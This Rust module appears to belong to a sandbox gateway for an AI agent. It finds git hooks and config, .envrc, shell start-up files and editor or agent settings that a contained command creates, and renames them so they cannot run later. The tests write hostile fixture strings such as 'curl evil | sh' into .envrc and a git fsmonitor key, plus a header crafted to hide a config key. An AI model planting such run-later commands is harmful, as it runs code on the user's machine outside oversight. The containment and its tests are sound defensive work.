//! Files that make something run later without the agent: git's hooks and config (a hook or
//! `core.fsmonitor` runs at the user's next commit), agents' and editors' project settings
//! (MCP servers, tasks), direnv's `.envrc`, and shell start-up files.
//!
//! The box shows the ones that exist read-only ([`crate::view`]); a mount cannot cover a name
//! that does not exist yet, so what a contained command makes anew is found afterwards
//! ([`Watch`]) and set aside; the file tools ask before they write one ([`runs_later`]).

use std::path::{Component, Path, PathBuf};

/// The run-later files and folders, relative to an allowed folder or a project directly in it.
pub const RUN_LATER: &[&str] = &[
    ".git/hooks",
    ".git/config",
    ".git/config.worktree",
    ".git/commondir",
    ".git/info",
    ".git/modules",
    ".git/worktrees",
    ".gitmodules",
    ".mcp.json",
    ".vscode",
    ".idea",
    ".claude",
    ".cursor",
    ".codex",
    ".envrc",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
];

/// The run-later files of [`RUN_LATER`] that exist in `root` and in the folders directly in it
/// (links left out: what they point at is judged where it lies).
pub fn run_later(root: &Path) -> Vec<PathBuf> {
    found(root, false)
}

/// [`run_later`], links included (`links`): a link named `.envrc` runs what it points at, and
/// a `.git` that is a link or a file (`gitdir: …`) chooses another repository's config and
/// hooks, so it counts itself. No folder on the way is a link: nothing found lies outside
/// `root`.
fn found(root: &Path, links: bool) -> Vec<PathBuf> {
    let mut folders = vec![root.to_path_buf()];
    if let Ok(entries) = std::fs::read_dir(root) {
        folders.extend(
            entries
                .flatten()
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| e.path()),
        );
    }
    let real_dir = |p: &Path| std::fs::symlink_metadata(p).is_ok_and(|m| m.is_dir());
    let mut found = Vec::new();
    for folder in folders {
        let git = folder.join(".git");
        let git_is_dir = real_dir(&git);
        if links && !git_is_dir && std::fs::symlink_metadata(&git).is_ok() {
            found.push(git);
        }
        for name in RUN_LATER {
            if name.starts_with(".git/") && !git_is_dir {
                continue;
            }
            let path = folder.join(name);
            if std::fs::symlink_metadata(&path).is_ok_and(|m| links || !m.file_type().is_symlink())
            {
                found.push(path);
            }
        }
    }
    found
}

/// The entry of [`RUN_LATER`] that `path` is or lies in, at any depth (`a/b/.envrc`,
/// `x/.git/hooks/pre-commit`, `.vscode/tasks.json`).
pub fn runs_later(path: &Path) -> Option<&'static str> {
    let parts: Vec<&std::ffi::OsStr> = path
        .components()
        .filter_map(|c| match c {
            Component::Normal(part) => Some(part),
            _ => None,
        })
        .collect();
    RUN_LATER.iter().copied().find(|entry| {
        let wanted: Vec<&str> = entry.split('/').collect();
        (0..parts.len()).any(|start| {
            parts.len() - start >= wanted.len()
                && wanted
                    .iter()
                    .zip(&parts[start..])
                    // Case aside: on a file system that ignores it, `.Envrc` is `.envrc`.
                    .all(|(w, p)| p.to_str().is_some_and(|p| p.eq_ignore_ascii_case(w)))
        })
    })
}

/// A run-later file a contained command made, and where it was set aside.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SetAside {
    pub path: PathBuf,
    /// Where it is now (`None`: it could not be moved).
    pub moved_to: Option<PathBuf>,
}

/// The run-later files of the allowed folders as they were when this gateway first looked
/// (one baseline per folder for the whole gateway, so a file a background job of one session
/// writes after its last command is still new to the next): those made since are set aside
/// (renamed `….aai-held`), so nothing the agent wrote runs at the user's next `cd`, commit or
/// editor start. An entry counts as made anew when a folder on its way was replaced (a `.git`
/// or a project moved aside and made again). A repository made in the box keeps its sample
/// hooks and a config as git writes it.
#[derive(Debug)]
pub struct Watch {
    roots: Vec<(PathBuf, std::sync::Arc<Baseline>)>,
}

/// What one allowed folder held: each run-later path and the identity (device, inode) of the
/// folders between the allowed folder and it.
#[derive(Debug, Default)]
pub struct Baseline(std::collections::BTreeMap<PathBuf, Vec<(u64, u64)>>);

/// The baselines of this process, by allowed folder.
static BASELINES: std::sync::Mutex<std::collections::BTreeMap<PathBuf, std::sync::Arc<Baseline>>> =
    std::sync::Mutex::new(std::collections::BTreeMap::new());

/// The identity of each folder from `root` (excluded) down to `path` (excluded).
fn ancestry(root: &Path, path: &Path) -> Vec<(u64, u64)> {
    #[cfg(unix)]
    use std::os::unix::fs::MetadataExt as _;
    let mut out = Vec::new();
    let mut at = path.parent();
    while let Some(dir) = at {
        if dir == root || !dir.starts_with(root) {
            break;
        }
        out.push(std::fs::symlink_metadata(dir).map_or((0, 0), |m| (m.dev(), m.ino())));
        at = dir.parent();
    }
    out
}

impl Watch {
    /// Watches `roots`, from the baseline this gateway took of each (taken now if none).
    pub fn new(roots: Vec<PathBuf>) -> Self {
        let mut baselines = BASELINES
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        let roots = roots
            .into_iter()
            .map(|root| {
                let baseline = baselines
                    .entry(root.clone())
                    .or_insert_with(|| {
                        std::sync::Arc::new(Baseline(
                            found(&root, true)
                                .into_iter()
                                .map(|p| {
                                    let a = ancestry(&root, &p);
                                    (p, a)
                                })
                                .collect(),
                        ))
                    })
                    .clone();
                (root, baseline)
            })
            .collect();
        Self { roots }
    }

    /// Sets aside what was made since the baseline, and says what. Nothing is ever taken into
    /// the baseline: a file that could not be moved is named again after every command.
    pub fn sweep(&self) -> Vec<SetAside> {
        let mut out = Vec::new();
        for (root, baseline) in &self.roots {
            for path in found(root, true) {
                if baseline.0.get(&path) == Some(&ancestry(root, &path)) {
                    continue;
                }
                let meta = std::fs::symlink_metadata(&path).ok();
                let in_git = path.parent().is_some_and(|p| p.ends_with(".git"))
                    && meta.as_ref().is_some_and(|m| !m.file_type().is_symlink());
                // A repository made in the box: git's sample hooks stay.
                if in_git && path.ends_with(".git/hooks") && meta.is_some_and(|m| m.is_dir()) {
                    out.extend(hooks_made(root, &path));
                    continue;
                }
                // Its config as git writes it stays, read again after every command (the box
                // does not hold it read-only); git works on without one that was set aside.
                if in_git && path.ends_with(".git/config") && plain_git_config(root, &path) {
                    continue;
                }
                let moved_to = set_aside(root, &path);
                out.push(SetAside { path, moved_to });
            }
        }
        out
    }
}

/// Whether a new repository's config holds only what `git init` and `git clone` write:
/// nothing in it names a program, a hook folder, a filter, an alias or an include. Read as
/// text, never by running git.
fn plain_git_config(root: &Path, path: &Path) -> bool {
    const PLAIN: &[&str] = &[
        "core.repositoryformatversion",
        "core.filemode",
        "core.bare",
        "core.logallrefupdates",
        "core.ignorecase",
        "core.precomposeunicode",
        "core.symlinks",
        "extensions.objectformat",
        "init.defaultbranch",
        "user.name",
        "user.email",
    ];
    const PER_NAME: &[(&str, &[&str])] = &[
        ("remote", &["url", "fetch", "pushurl"]),
        ("branch", &["remote", "merge", "rebase"]),
    ];
    let Some(text) = read_beneath(root, path) else {
        return false;
    };
    let mut section: Option<(String, bool)> = None;
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        // A value continued on the next line could hide anything in it.
        if line.ends_with('\\') {
            return false;
        }
        if let Some(header) = line.strip_prefix('[') {
            // Nothing after the header's `]` but a comment: git reads on past it
            // (`[remote "o"][core]fsmonitor = …` sets a key of core).
            let Some((header, rest)) = header.split_once(']') else {
                return false;
            };
            let rest = rest.trim();
            if !(rest.is_empty() || rest.starts_with('#') || rest.starts_with(';'))
                || header.contains('[')
            {
                return false;
            }
            let (name, named) = match header.split_once(char::is_whitespace) {
                Some((name, rest)) if rest.trim().starts_with('"') => (name, true),
                Some(_) => return false,
                None => (header, false),
            };
            section = Some((name.to_ascii_lowercase(), named));
            continue;
        }
        let Some((name, named)) = &section else {
            return false;
        };
        let key = line
            .split(['=', ' ', '\t'])
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        let plain = if *named {
            PER_NAME
                .iter()
                .any(|(s, keys)| s == name && keys.contains(&key.as_str()))
        } else {
            PLAIN.contains(&format!("{name}.{key}").as_str())
        };
        if !plain {
            return false;
        }
    }
    true
}

/// The hooks of a new repository that are not git's samples, each set aside.
fn hooks_made(root: &Path, hooks: &Path) -> Vec<SetAside> {
    let Ok(entries) = std::fs::read_dir(hooks) else {
        return Vec::new();
    };
    entries
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.extension().is_none_or(|e| e != "sample")
                && p.file_name()
                    .is_some_and(|n| !n.to_string_lossy().contains(".aai-held"))
        })
        .map(|path| SetAside {
            moved_to: set_aside(root, &path),
            path,
        })
        .collect()
}

/// The folder that holds `path`, opened from `root` one folder at a time, never through a
/// link (a folder swapped for a link meanwhile stops the walk), and `path`'s last name.
#[cfg(target_os = "linux")]
fn parent_beneath<'p>(
    root: &Path,
    path: &'p Path,
) -> Option<(rustix::fd::OwnedFd, &'p std::ffi::OsStr)> {
    use rustix::fs::{Mode, OFlags};
    let rel = path.strip_prefix(root).ok()?;
    let parts: Vec<&std::ffi::OsStr> = rel.iter().collect();
    let (name, folders) = parts.split_last()?;
    let flags = OFlags::DIRECTORY | OFlags::RDONLY | OFlags::CLOEXEC;
    let mut dir = rustix::fs::open(root, flags, Mode::empty()).ok()?;
    for folder in folders {
        dir = rustix::fs::openat(&dir, *folder, flags | OFlags::NOFOLLOW, Mode::empty()).ok()?;
    }
    Some((dir, name))
}

/// `path`'s text, read beneath `root` without following a link anywhere on the way.
fn read_beneath(root: &Path, path: &Path) -> Option<String> {
    #[cfg(target_os = "linux")]
    {
        use rustix::fs::{Mode, OFlags};
        let (dir, name) = parent_beneath(root, path)?;
        let fd = rustix::fs::openat(
            &dir,
            name,
            OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .ok()?;
        let mut text = String::new();
        std::io::Read::read_to_string(&mut std::fs::File::from(fd), &mut text).ok()?;
        Some(text)
    }
    #[cfg(not(target_os = "linux"))]
    {
        let _ = root;
        std::fs::symlink_metadata(path)
            .is_ok_and(|m| m.is_file())
            .then(|| std::fs::read_to_string(path).ok())
            .flatten()
    }
}

/// Renames `path` to `path.aai-held` (or a free `.aai-held-N`) inside its own folder, reached
/// from `root` without following links, so only what lies in the allowed folder can move.
fn set_aside(root: &Path, path: &Path) -> Option<PathBuf> {
    let name = path.file_name()?.to_string_lossy().into_owned();
    let candidates = (0..100u32).map(|n| {
        if n == 0 {
            format!("{name}.aai-held")
        } else {
            format!("{name}.aai-held-{n}")
        }
    });
    #[cfg(target_os = "linux")]
    {
        let (dir, from) = parent_beneath(root, path)?;
        for to in candidates.chain(std::iter::once(format!(
            "{name}.aai-held-{}",
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(0, |d| d.as_nanos())
        ))) {
            match rustix::fs::renameat_with(
                &dir,
                from,
                &dir,
                to.as_str(),
                rustix::fs::RenameFlags::NOREPLACE,
            ) {
                Ok(()) => return Some(path.with_file_name(to)),
                Err(rustix::io::Errno::EXIST) => {}
                Err(_) => return None,
            }
        }
        None
    }
    #[cfg(not(target_os = "linux"))]
    {
        let _ = root;
        for to in candidates {
            let to = path.with_file_name(to);
            if std::fs::symlink_metadata(&to).is_ok() {
                continue;
            }
            return std::fs::rename(path, &to).ok().map(|()| to);
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn a_path_in_a_run_later_place_is_found_at_any_depth() {
        for (path, entry) in [
            ("/w/p/.envrc", Some(".envrc")),
            ("/w/a/b/.git/hooks/pre-commit", Some(".git/hooks")),
            (".vscode/tasks.json", Some(".vscode")),
            ("/w/p/.git/config", Some(".git/config")),
            ("/w/p/.git/HEAD", None),
            ("/w/p/src/main.rs", None),
            ("/w/p/envrc", None),
            ("/w/p/.hooks", None),
            ("/w/p/.Envrc", Some(".envrc")),
            ("/w/p/.MCP.json", Some(".mcp.json")),
        ] {
            assert_eq!(runs_later(Path::new(path)), entry, "{path}");
        }
    }

    #[test]
    fn what_was_made_since_the_start_is_set_aside_and_what_was_there_stays() {
        let dir = tempfile::tempdir().expect("dir");
        let root = dir.path();
        std::fs::write(root.join(".envrc"), "old").expect("envrc");
        std::fs::create_dir_all(root.join("p")).expect("p");
        let watch = Watch::new(vec![root.to_path_buf()]);
        assert!(watch.sweep().is_empty());
        std::fs::write(root.join("p/.envrc"), "curl evil | sh").expect("new");
        std::fs::create_dir_all(root.join("p/.vscode")).expect("vscode");
        std::fs::write(root.join("p/.vscode/tasks.json"), "{}").expect("tasks");
        // A repository made in the box: its own files stay, a hook that is no sample goes.
        std::fs::create_dir_all(root.join("q/.git/hooks")).expect("git");
        std::fs::write(root.join("q/.git/config"), "[core]").expect("config");
        std::fs::write(root.join("q/.git/hooks/pre-commit.sample"), "").expect("sample");
        std::fs::write(root.join("q/.git/hooks/post-checkout"), "evil").expect("hook");
        let swept = watch.sweep();
        let paths: BTreeSet<PathBuf> = swept.iter().map(|s| s.path.clone()).collect();
        assert_eq!(
            paths,
            [
                root.join("p/.envrc"),
                root.join("p/.vscode"),
                root.join("q/.git/hooks/post-checkout")
            ]
            .into_iter()
            .collect()
        );
        assert!(swept.iter().all(|s| s.moved_to.is_some()));
        assert!(root.join("p/.envrc.aai-held").exists());
        assert!(root.join("p/.vscode.aai-held/tasks.json").exists());
        assert!(root.join("q/.git/config").exists());
        assert!(root.join("q/.git/hooks/pre-commit.sample").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).ok().as_deref(),
            Some("old")
        );
        // A new repository whose config names a program: the config is set aside; one as
        // `git init` writes it stays. A link named `.envrc` is set aside like a file.
        std::fs::create_dir_all(root.join("r/.git")).expect("r");
        std::fs::write(
            root.join("r/.git/config"),
            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil | sh\n",
        )
        .expect("evil config");
        std::fs::create_dir_all(root.join("s/.git")).expect("s");
        std::fs::write(
            root.join("s/.git/config"),
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.org/r\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
        )
        .expect("plain config");
        std::fs::write(root.join("p/notes.txt"), "curl evil | sh").expect("notes");
        std::os::unix::fs::symlink("notes.txt", root.join("p/.envrc")).expect("link");
        let swept: BTreeSet<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(
            swept,
            [root.join("r/.git/config"), root.join("p/.envrc")]
                .into_iter()
                .collect()
        );
        assert!(root.join("s/.git/config").exists());
        assert!(root.join("r/.git/config.aai-held").exists());
        // Changed by a later command, it is judged again.
        std::fs::write(root.join("s/.git/config"), "[alias]\n\tst = !sh -c evil\n").expect("alias");
        let again: Vec<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(again, [root.join("s/.git/config")]);
        // Made again: set aside again, beside the first.
        std::fs::write(root.join("p/.envrc"), "again").expect("again");
        assert_eq!(watch.sweep().len(), 1);
        assert!(root.join("p/.envrc.aai-held-2").exists());
    }

    /// What the agent may point a run-later name at, or rename, never makes the gateway move
    /// something outside the allowed folder; a header that hides a key, a `.git` made anew
    /// under a known path, and a name that cannot be moved are each caught.
    #[test]
    fn nothing_outside_moves_and_no_shape_slips_past() {
        let dir = tempfile::tempdir().expect("dir");
        let (root, outside) = (dir.path().join("allowed"), dir.path().join("outside"));
        for d in ["allowed/p/.git/hooks", "allowed/q", "outside/hooks"] {
            std::fs::create_dir_all(dir.path().join(d)).expect("dir");
        }
        std::fs::write(
            dir.path().join("allowed/p/.git/config"),
            "[core]\n\tbare = false\n",
        )
        .expect("config");
        std::fs::write(outside.join("config"), "[core]\n\tfsmonitor = mine\n").expect("o");
        std::fs::write(outside.join("hooks/pre-commit"), "mine").expect("hook");
        let watch = Watch::new(vec![root.clone()]);
        // `.git` as a link out of the folder: the link is set aside, what it points at stays.
        std::os::unix::fs::symlink(&outside, root.join("q/.git")).expect("link");
        let swept: Vec<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(swept, [root.join("q/.git")]);
        assert!(outside.join("config").exists() && outside.join("hooks/pre-commit").exists());
        assert!(root.join("q/.git.aai-held").exists());
        // A header that hides a key of another section.
        std::fs::create_dir_all(root.join("r/.git")).expect("r");
        std::fs::write(
            root.join("r/.git/config"),
            "[remote \"o\"][core]fsmonitor = curl evil | sh #]\n",
        )
        .expect("hidden");
        // A `.git` moved aside and made again under the same path.
        std::fs::rename(root.join("p/.git"), root.join("p/.git-old")).expect("mv");
        std::fs::create_dir_all(root.join("p/.git/hooks")).expect("again");
        std::fs::write(root.join("p/.git/config"), "[alias]\n\tst = !evil\n").expect("evil");
        std::fs::write(root.join("p/.git/hooks/post-checkout"), "evil").expect("hook");
        let swept: BTreeSet<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(
            swept,
            [
                root.join("r/.git/config"),
                root.join("p/.git/config"),
                root.join("p/.git/hooks/post-checkout"),
            ]
            .into_iter()
            .collect()
        );
        // A name whose set-aside names are all taken still moves, and one that cannot move is
        // named again after the next command (never taken as known).
        std::fs::write(root.join("q/.envrc"), "evil").expect("envrc");
        for n in 0..100 {
            let name = if n == 0 {
                ".envrc.aai-held".to_owned()
            } else {
                format!(".envrc.aai-held-{n}")
            };
            std::fs::write(root.join("q").join(name), "").expect("taken");
        }
        let swept = watch.sweep();
        assert_eq!(swept.len(), 1);
        assert!(swept[0].moved_to.is_some() && !root.join("q/.envrc").exists());
        // Another watch of the same folder keeps the first baseline.
        std::fs::write(root.join("q/.mcp.json"), "{}").expect("mcp");
        let later = Watch::new(vec![root.clone()]);
        assert_eq!(later.sweep().len(), 1);
    }
}
